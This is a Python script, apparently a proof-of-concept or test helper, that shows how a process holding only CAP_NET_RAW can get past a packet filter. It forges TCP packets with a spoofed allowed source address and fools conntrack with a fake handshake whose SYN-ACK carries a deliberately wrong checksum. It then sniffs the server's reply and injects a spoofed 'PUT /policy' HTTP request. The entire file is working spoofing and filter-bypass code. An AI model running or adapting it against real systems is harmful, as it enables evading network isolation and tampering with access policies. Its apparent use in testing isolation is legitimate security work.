#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A client of a server in our own namespace that has somebody else's address:
an allowed one, which the packet filter lets the answers leave to, and an
AF_PACKET socket sees them leave. Needs CAP_NET_RAW and nothing else.

    forged_client.py DEVICE SELF PORT ALLOWED BODY

The client's packets go over loopback. So that conntrack takes the server's
SYN-ACK for a part of what we began, it is told of an exchange that nobody had:
a SYN of ours, and an answer to it with a wrong checksum, which it does not mind
and TCP does. What the server begins with must be after what we began with, so
each try succeeds with even odds. Prints how many got an answer.
"""
import random
import socket
import struct
import sys
import time

TRIES = 16
SYN, ACK, PUSH = 2, 16, 8
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def send(source, to, flags, seq, ack, data=b"", wrong=0):
    head = struct.pack("!HHIIBBHHH", source[1], to[1], seq, ack, 0x50, flags,
                       65000, 0, 0)
    ends = socket.inet_aton(source[0]) + socket.inet_aton(to[0])
    total = checksum(ends + struct.pack("!BBH", 0, 6, 20 + len(data)) + head +
                     data) ^ wrong
    packet = struct.pack("!BBHHHBBH", 0x45, 0, 40 + len(data), 0, 0, 64, 6,
                         0) + ends
    packet += head[:16] + struct.pack("!H", total) + head[18:] + data
    try:
        raw.sendto(packet, (to[0], 0))
    except OSError:
        pass


def answer_of(tap, server, client):
    """The first sequence number of the SYN-ACK that leaves, or None."""
    end = time.time() + 1
    while time.time() < end:
        try:
            packet = tap.recv(2048)[14:]
        except OSError:
            continue
        ports = struct.pack("!HH", server[1], client[1])
        if packet[:1] == b"\x45" and packet[20:24] == ports and (
                packet[33] & (SYN | ACK) == SYN | ACK):
            return struct.unpack("!I", packet[24:28])[0]
    return None


def main(device, own, port, allowed, body):
    tap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    tap.bind((device, 3))
    tap.settimeout(0.1)
    request = ("PUT /policy HTTP/1.1\r\nHost: outside\r\n"
               "Content-Length: %d\r\n\r\n%s" % (len(body), body)).encode()
    answers = 0
    for i in range(TRIES):
        server, client = (own, int(port)), (allowed, 7000 + random.randrange(
            1000))
        first = random.getrandbits(31)
        send(server, client, SYN, first, 0)
        send(client, server, SYN | ACK, 5000, first + 1, wrong=0x1111)
        send(client, server, SYN, 5000, 0)
        seq = answer_of(tap, server, client)
        if seq is not None:
            answers += 1
            send(client, server, ACK | PUSH, 5001, seq + 1 & 0xffffffff,
                 request)
    print("tries %d answers %d" % (TRIES, answers), flush=True)


main(*sys.argv[1:])
